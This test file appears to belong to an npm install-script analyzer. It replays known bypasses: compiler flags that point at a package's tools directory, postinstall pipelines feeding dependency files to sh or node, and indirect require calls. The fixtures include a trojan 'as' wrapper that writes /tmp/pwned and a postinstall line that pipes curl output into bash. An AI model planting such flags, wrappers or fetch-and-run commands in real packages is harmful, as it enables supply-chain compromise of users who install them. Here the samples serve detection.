/**
 * The bypasses of outside attack round 5 (issue 10), each replayed against
 * the pure analysis: indirect require, dependency files handed along by the
 * workspace's shell, and compiler flags that name a directory.
 */
import assert from 'node:assert/strict';

import {analyzeEntries, analyzeInstall, installCommands, type InstallAnalysis} from '../../sources/installScripts/policy/fingerprint';

import {type Contents, memoryPackage} from './support/memoryPackage';

function analyse(scripts: Record<string, string>, contents: Contents): InstallAnalysis {
  const {commands} = installCommands(scripts, Object.prototype.hasOwnProperty.call(contents, `binding.gyp`));
  return analyzeInstall({commands, manifestScripts: scripts, manifest: {scripts}, files: memoryPackage(contents)});
}

function filesOf(analysis: InstallAnalysis): Array<string> {
  return Object.keys(analysis.fingerprint.files).filter(key => !key.startsWith(`package.json#`)).sort();
}

function gypWith(flags: Record<string, unknown>): string {
  return JSON.stringify({targets: [{target_name: `addon`, sources: [`a.cc`], ...flags}]});
}

describe(`analyzeInstall and compiler flags that name a directory (outside attack round 5: C3)`, () => {
  const forms: Array<[string, Record<string, unknown>]> = [
    [`cflags_cc: -B../tools/ (gcc runs from build/)`, {cflags_cc: [`-B../tools/`]}],
    [`cflags: -B ../tools/ as two words`, {cflags: [`-B`, `../tools/`]}],
    [`ldflags: -B ../tools in one string`, {ldflags: [`-B ../tools`]}],
    [`xcode_settings: OTHER_CFLAGS -B<(module_root_dir)/tools`, {xcode_settings: {OTHER_CFLAGS: [`-B<(module_root_dir)/tools`]}}],
    [`cflags: -iplugindir=../tools`, {cflags: [`-iplugindir=../tools`, `-fplugin=evil`]}],
    [`cflags: --sysroot=../tools`, {cflags: [`--sysroot=../tools`]}],
    [`cflags: --prefix ../tools (gcc's long -B)`, {cflags: [`--prefix`, `../tools`]}],
  ];
  for (const [shown, flags] of forms) {
    describe(`when binding.gyp has ${shown}`, () => {
      const v1 = {'binding.gyp': gypWith(flags), 'a.cc': `int a;`, 'tools/README': `empty\n`};
      it(`hashes every file of that directory and names the flag among the limits`, () => {
        const analysis = analyse({}, v1);
        assert.deepEqual(filesOf(analysis), [`binding.gyp`, `tools/README`]);
        assert.ok(analysis.unresolved.some(line => /binding\.gyp: the compiler flag .* makes it run programs it finds in that directory: every file below (?:build\/tools\/ and )?tools\/ is hashed/.test(line)), analysis.unresolved.join(`\n`));
      });
      it(`makes a release that only adds tools/as a new fingerprint`, () => {
        const v2 = analyse({}, {...v1, 'tools/as': `#!/bin/sh\n: > /tmp/pwned\nexec /usr/bin/as "$@"\n`});
        assert.deepEqual(filesOf(v2), [`binding.gyp`, `tools/README`, `tools/as`]);
        assert.notDeepEqual(v2.fingerprint, analyse({}, v1).fingerprint);
      });
    });
  }

  it(`binds a directory that does not exist yet: adding it changes the fingerprint`, () => {
    const v1 = {'binding.gyp': gypWith({cflags_cc: [`-B../tools/`]}), 'a.cc': `int a;`};
    const v2 = {...v1, 'tools/cc1plus': `#!/bin/sh\n`};
    assert.notDeepEqual(analyse({}, v1).fingerprint, analyse({}, v2).fingerprint);
  });

  it(`refuses a directory outside the package, naming the flag`, () => {
    for (const flag of [`-B/tmp/tools/`, `-B../../other/`, `--sysroot=/opt/evil`, `-B$(TOOLS)`]) {
      assert.throws(() => analyse({}, {'binding.gyp': gypWith({cflags: [flag]}), 'a.cc': `int a;`}), /gives the compiler .* a directory outside the package/, flag);
    }
  });

  it(`hashes a -specs= file, and a response file with the directories its own flags name`, () => {
    const analysis = analyse({}, {
      'binding.gyp': gypWith({cflags: [`-specs=../tools/gcc.specs`, `@../flags.rsp`]}),
      'a.cc': `int a;`,
      'tools/gcc.specs': `*asm: ...\n`,
      'flags.rsp': `-O2 -B ../bin/\n`,
      'bin/ld': `#!/bin/sh\n`,
    });
    assert.deepEqual(filesOf(analysis), [`bin/ld`, `binding.gyp`, `flags.rsp`, `tools/gcc.specs`]);
  });

  it(`refuses a response file outside the package`, () => {
    assert.throws(() => analyse({}, {'binding.gyp': gypWith({cflags: [`@/tmp/flags`]}), 'a.cc': `int a;`}), /read its flags from @\/tmp\/flags, a file outside the package/);
  });

  it(`follows the action of a gyp rule like a target's action (not tried by the attacker)`, () => {
    const gyp = gypWith({rules: [{rule_name: `gen`, extension: `in`, outputs: [`x.out`], action: [`node`, `tools/gen.js`, `<(RULE_INPUT_PATH)`]}]});
    const analysis = analyse({}, {'binding.gyp': gyp, 'a.cc': `int a;`, 'tools/gen.js': `require('./lib');\n`, 'tools/lib.js': `\n`});
    assert.deepEqual(filesOf(analysis), [`binding.gyp`, `tools/gen.js`, `tools/lib.js`]);
  });
});

describe(`analyzeInstall and a dependency's file handed along by a script (outside attack round 5: A2, A3, A4, A6)`, () => {
  const cases: Array<[string, string, Array<string>]> = [
    [`A2: node - < node_modules/dep/x.js`, `node - < node_modules/dep/x.js`, [`dep/x.js`]],
    [`A3: cat node_modules/dep/x.sh | sh`, `cat node_modules/dep/x.sh | sh`, [`dep/x.sh`]],
    [`A4: sh < node_modules/dep/x.sh`, `sh < node_modules/dep/x.sh`, [`dep/x.sh`]],
    [`A6: cp node_modules/dep/x.js s.js && node s.js`, `cp node_modules/dep/x.js s.js && node s.js`, [`dep/x.js`]],
    [`an option value`, `tool --config=node_modules/dep/c.js`, [`dep/c.js`]],
    [`an output redirection`, `echo x > node_modules/dep/y.js`, [`dep/y.js`]],
    [`every command of a chain and a pipeline`, `true && cat node_modules/a/1.sh node_modules/@s/b/2.sh | tee log | sh; cp node_modules/c/3.js .`, [`@s/b/2.sh`, `a/1.sh`, `c/3.js`]],
    [`a word after cd`, `cd sub && cat node_modules/dep/x.sh | sh`, [`dep/x.sh`]],
  ];
  for (const [shown, postinstall, expected] of cases) {
    it(`follows the node_modules file into the dependency for ${shown}`, () => {
      const analysis = analyse({postinstall}, {'s.js': `\n`, 'sub/readme': `\n`});
      assert.deepEqual(analysis.dependencyFiles, expected);
    });
  }

  it(`no longer calls the file fed to node - "not a file of the package", nor the one fed to sh`, () => {
    for (const postinstall of [`node - < node_modules/dep/x.js`, `sh < node_modules/dep/x.sh`])
      assert.deepEqual(analyse({postinstall}, {}).unresolved, [], postinstall);
  });

  it(`names a shell or node fed by a pipe as a limit, and hashes what the commands before it name`, () => {
    const analysis = analyse({postinstall: `cat setup.sh | sh && cat gen.js | node && curl -s https://x.test/i | bash -s -- -y`}, {'setup.sh': `echo\n`, 'gen.js': `\n`});
    assert.deepEqual(filesOf(analysis), [`gen.js`, `setup.sh`]);
    assert.deepEqual(analysis.unresolved, [
      `postinstall: bash runs the commands it reads from a pipe (… | bash), which are not followed; the files the commands before it name are hashed`,
      `postinstall: node runs the program it reads from a pipe (… | node), which is not followed; the files the commands before it name are hashed`,
      `postinstall: sh runs the commands it reads from a pipe (… | sh), which are not followed; the files the commands before it name are hashed`,
    ]);
  });

  it(`reads node - < file and sh -s < file as running that file of the package`, () => {
    const analysis = analyse({postinstall: `node - < gen.js && sh -s < setup.sh`}, {'gen.js': `require('./lib');\n`, 'lib.js': `\n`, 'setup.sh': `echo\n`});
    assert.deepEqual(filesOf(analysis), [`gen.js`, `lib.js`, `setup.sh`]);
    assert.deepEqual(analysis.unresolved, [`setup.sh: shell script, hashed and read only for the bins and node_modules files it names (a command it builds at run time is not followed)`]);
  });

  it(`names node - without a file as reading its standard input`, () => {
    assert.deepEqual(analyse({postinstall: `node -`}, {}).unresolved, [`postinstall: node runs the program it reads from its standard input, which is not followed; the files the commands before it name are hashed`]);
  });

  it(`does not read a || b as a pipe`, () => {
    assert.deepEqual(analyse({postinstall: `test -f x || sh ./setup.sh`}, {'setup.sh': `echo\n`}).unresolved, [`setup.sh: shell script, hashed and read only for the bins and node_modules files it names (a command it builds at run time is not followed)`]);
  });
});

describe(`analyzeEntries and a directory of a dependency handed along (cp -r node_modules/dep/dist x)`, () => {
  it(`hashes every file below it and says so`, () => {
    const analysis = analyzeEntries({entries: [{kind: `file`, path: `dist`}], manifest: {}, files: memoryPackage({'dist/cli.js': `\n`, 'dist/sub/run.sh': `\n`, 'other.js': `\n`})});
    assert.deepEqual(filesOf(analysis), [`dist/cli.js`, `dist/sub/run.sh`]);
    assert.deepEqual(analysis.unresolved, [`dist: a directory, handed to a command that may run what is in it: every file below it is hashed`]);
  });
});

describe(`analyzeInstall and require reached indirectly (outside attack round 5: E1-E3, E6, E9, E12-E15, D2)`, () => {
  const followed: Array<[string, string]> = [
    [`E1/D2`, `require('module').createRequire(__filename)('helper');`],
    [`E2`, `(0, require)('helper');`],
    [`E3`, `const r = require; r('helper');`],
    [`E3 without a semicolon`, `const r = require\nr('helper')\n`],
    [`E6`, `require.call(null, 'helper');`],
    [`require.apply`, `require.apply(this, ['helper']);`],
    [`E9`, `require('module')._load('helper', module);`],
    [`Module._load`, `const Module = require('module');\nModule._load('helper', module, false);`],
    [`E12`, `Reflect.apply(require, null, ['helper']);`],
    [`E13`, `require?.('helper');`],
    [`a stored createRequire result`, `const {createRequire} = require('node:module');\nconst load = createRequire(__filename);\nload('helper');`],
    [`a renamed createRequire in ESM`, `import {createRequire as cr} from 'node:module';\nconst load = cr(import.meta.url);\nload('helper');`],
    [`module.require taken apart`, `const {require: r} = module;\nr.call(module, 'helper');`],
    [`hooks that node:module's register loads (an import analogue)`, `import {register} from 'node:module';\nregister('helper', import.meta.url);`],
  ];
  for (const [shown, code] of followed) {
    it(`follows the literal name into the dependency like require('helper') (${shown})`, () => {
      const analysis = analyse({postinstall: `node i.js`}, {'i.js': code});
      assert.deepEqual(analysis.modules, [`helper`]);
      // Hooks may hand out any file: named as a limit (outside round 55, H1).
      assert.deepEqual(analysis.unresolved, code.includes(`register(`) ? [`i.js: registers module customization hooks (node:module register): what their resolve and load hooks hand out is not followed`] : []);
    });
  }

  it(`follows a relative name of the package the same way`, () => {
    const analysis = analyse({postinstall: `node i.js`}, {'i.js': `const r = require; r('./lib');`, 'lib.js': `\n`});
    assert.deepEqual(filesOf(analysis), [`i.js`, `lib.js`]);
  });

  const unclear: Array<[string, string, RegExp]> = [
    [`require passed on`, `run(require);`, /i\.js: require is used as a value/],
    [`require stored in an object`, `module.exports = {load: require};`, /i\.js: require is used as a value/],
    [`require bound`, `const load = require.bind(null); load('helper');`, /i\.js: require is used as a value/],
    [`an alias passed on`, `const r = require; run(r);`, /i\.js: r holds require .* is used other than by a call with a literal name/],
    [`an alias assigned later`, `let r; r = require; r('helper');`, /i\.js: r holds require/],
    [`a computed member`, `require['call'](null, 'helper');`, /i\.js: a loader .* is reached by a computed member/],
    [`Module._load stored`, `const load = require('module')._load; load('helper');`, /i\.js: Module\._load is used as a value/],
    [`createRequire stored`, `const make = require('module').createRequire; make(__filename)('helper');`, /i\.js: createRequire \(createRequire\) is used as a value/],
    [`a created require passed on`, `run(require('module').createRequire(__filename));`, /i\.js: the require that createRequire makes is used as a value/],
    [`a created require of another place in the package`, `require('module').createRequire(__dirname + '/lib/x.js')('helper');`, /i\.js: createRequire\(__dirname \+ '\/lib\/x\.js'\) makes a require that resolves from another place/],
    [`an indirect call with a computed name`, `require.call(null, process.env.X);`, /i\.js: require\(\) with a computed argument/],
    [`Module#_compile`, `const m = new (require('module'))(); m._compile(text, 'x.js');`, /i\.js: _compile\(\) evaluates text built at run time/],
  ];
  for (const [shown, code, limit] of unclear) {
    it(`names it as a limit when it cannot be followed: ${shown}`, () => {
      const analysis = analyse({postinstall: `node i.js`}, {'i.js': code});
      assert.ok(analysis.unresolved.some(line => limit.test(line)), analysis.unresolved.join(`\n`));
    });
  }

  it(`refuses a created require of a folder outside the package (an absolute path, the project's folder: round 13)`, () => {
    for (const code of [`require('module').createRequire('/usr/lib/x/')('helper');`, `require('module').createRequire(process.env.INIT_CWD + '/package.json')('helper');`, `require('module').createRequire(base)('helper');`])
      assert.throws(() => analyse({postinstall: `node i.js`}, {'i.js': code}), /makes a require that resolves from another package or folder than this file's/, code);
  });

  it(`stays quiet about what is not a loader used as a value`, () => {
    const code = [
      `if (require.main === module && typeof require === 'function') main();`,
      `const c = require.resolve('helper/package.json');`,
      `define(function (require, exports, module) { require('helper'); });`,
      `const table = {require: 1};`,
      `__webpack_require__(1);`,
      `// we require node 14`,
    ].join(`\n`);
    const analysis = analyse({postinstall: `node i.js`}, {'i.js': code});
    assert.deepEqual(analysis.unresolved, []);
  });
});
